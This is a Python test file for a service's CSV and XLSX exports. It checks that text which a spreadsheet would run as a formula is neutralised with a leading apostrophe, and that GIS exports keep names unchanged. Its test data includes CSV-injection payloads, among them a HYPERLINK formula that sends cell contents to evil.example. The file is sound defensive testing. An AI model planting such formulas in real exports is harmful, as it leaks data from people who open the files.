"""Exports that cannot attack their reader (issue 10 §5): text from data never becomes a
formula in a CSV or XLSX that riskmap writes (worklists, layer exports, the CLI export)."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date

import pandas as pd
import pyogrio
import pytest
from fastapi.testclient import TestClient

from service.app import create_app
from service.auth import Role, create_user
from service.build import run_build
from service.export import export_to_file
from service.ingest.pipeline import IngestOptions, ingest
from service.settings import Settings
from service.store import open_store
from service.tabular import neutralised
from tests import ingest_files as f
from tests.test_write_scope import HENAN_PIECE, PROVINCES, hazards_csv

PEPPER = Settings().token_pepper.get_secret_value()
NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1)",
         "\t=1+1", "\r=1+1"]


def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe():
    frame = pd.DataFrame({"name": [*NAMES, "正常单位", None], "n": [-1, 2, 3, 4, 5, 6, 7, 8]})
    out = neutralised(frame)
    assert list(out["name"][:6]) == ["'" + n for n in NAMES]
    assert out["name"][6] == "正常单位" and pd.isna(out["name"][7])
    assert list(out["n"]) == list(frame["n"])  # numbers stay numbers, signs included


def _fill(store, tmp) -> dict:
    """Henan's elevators whose using unit is named like a formula, with a listed major
    hazard, so the unit's name is in the worklist and in the layer exports; built."""
    rows = [[*r] for r in f.equipment_rows()]
    for row in rows:
        row[3] = NAMES[0]
    units = pd.read_csv(f.write_units_csv(tmp / "units.csv"), dtype=str)
    units.loc[0, "单位名称"] = NAMES[0]
    units.to_csv(tmp / "units.csv", index=False)
    ingest([str(f.write_equipment_csv(tmp / "eq.csv", rows=rows)),
            str(tmp / "units.csv"),
            hazards_csv(tmp / "hz.csv", [
                ["YH-1", HENAN_PIECE, "2025-05-01", "重大", NAMES[1], "整改中", "2025-08-01",
                 "", "", ""]])], store, IngestOptions(provinces=PROVINCES))
    run_build(store, PROVINCES, as_of=date(2026, 11, 1))
    _user, token = create_user(store, name="admin", role=Role.ADMIN, scope=None,
                               pepper=PEPPER, provinces=PROVINCES)
    return {"token": token}


@pytest.fixture()
def served(filled_store):
    """The service, as the administrator, on this test's copy of the store ``_fill`` filled."""
    filled = filled_store(_fill)
    with TestClient(create_app(Settings(store=filled.url)),
                    headers={"Authorization": f"Bearer {filled.facts['token']}"}) as client:
        yield client, filled.url


def _sheet_xml(body: bytes) -> tuple[str, str]:
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = (book.read("xl/sharedStrings.xml").decode()
                   if "xl/sharedStrings.xml" in book.namelist() else "")
    return sheet, strings


def test_the_worklist_xlsx_holds_names_as_strings_not_formulas(served):
    client, _ = served
    r = client.get("/api/worklist", params={"format": "xlsx", "today": "2026-11-01"})
    assert r.status_code == 200
    sheet, strings = _sheet_xml(r.content)
    assert "<f>" not in sheet and "<f " not in sheet  # no formula cell at all
    assert "HYPERLINK(" in strings  # the name is there, as a shared string


def test_the_worklist_csv_neutralises_formula_text(served):
    client, _ = served
    text = client.get("/api/worklist", params={"format": "csv", "today": "2026-11-01"}
                      ).content.decode("utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert "：+1+1（" in text  # inside a sentence a plus is only text
    assert not re.search(r'(^|,)"?=HYPERLINK', text, re.MULTILINE)


def test_layer_exports_neutralise_formula_text(served, tmp_path):
    client, url = served
    text = client.get("/api/export/units", params={"format": "csv"}).content.decode(
        "utf-8-sig")
    assert "'=HYPERLINK(" in text
    assert not re.search(r'(^|,)"?=HYPERLINK', text, re.MULTILINE)
    with open_store(url) as store:
        export_to_file(store, "equipment", "csv", "EPSG:4326", tmp_path / "eq.csv")
    written = (tmp_path / "eq.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in written
    assert not re.search(r'(^|,)"?=HYPERLINK', written, re.MULTILINE)


def test_formula_text_is_kept_as_registered_where_no_spreadsheet_runs_it(served, tmp_path):
    """A GIS field or a GeoJSON string is no spreadsheet cell: the name as registered; the
    CSV beside it neutralises it and writes its flags as 是/否."""
    client, _ = served
    path = tmp_path / "units.gpkg"
    path.write_bytes(client.get("/api/export/units", params={"format": "gpkg"}).content)
    assert NAMES[0] in set(pyogrio.read_dataframe(path, layer="units")["name"])
    features = client.get("/api/export/units").json()["features"]
    assert NAMES[0] in {f["properties"]["name"] for f in features}
    table = pd.read_csv(io.BytesIO(client.get("/api/export/units", params={"format": "csv"}
                                              ).content), encoding="utf-8-sig", dtype=str)
    assert "'" + NAMES[0] in set(table["name"])
    assert set(table["blacklisted"].dropna()) <= {"是", "否"} and table["level_name"].notna().any()
